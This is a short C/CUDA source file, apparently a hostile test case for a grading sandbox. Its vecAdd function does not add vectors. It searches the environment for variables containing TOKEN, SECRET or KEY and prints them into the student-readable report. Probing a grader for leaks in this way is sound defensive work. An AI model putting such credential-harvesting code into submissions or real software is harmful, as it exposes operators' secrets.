// Hostile: prints the grader's secrets (tokens, keys) from its environment into the
// report a student reads.
#include "common.cuh"

extern char **environ;

void vecAdd(const float *A, const float *B, float *C, int n)
{
    int found = 0;
    for (char **e = environ; *e; e++)
        if (strstr(*e, "TOKEN") || strstr(*e, "SECRET") || strstr(*e, "KEY")) {
            fprintf(stderr, "leaked: %s\n", *e);
            found++;
        }
    if (!found)
        HOSTILE_FAIL("no secret in my environment");
    exit(3);
}
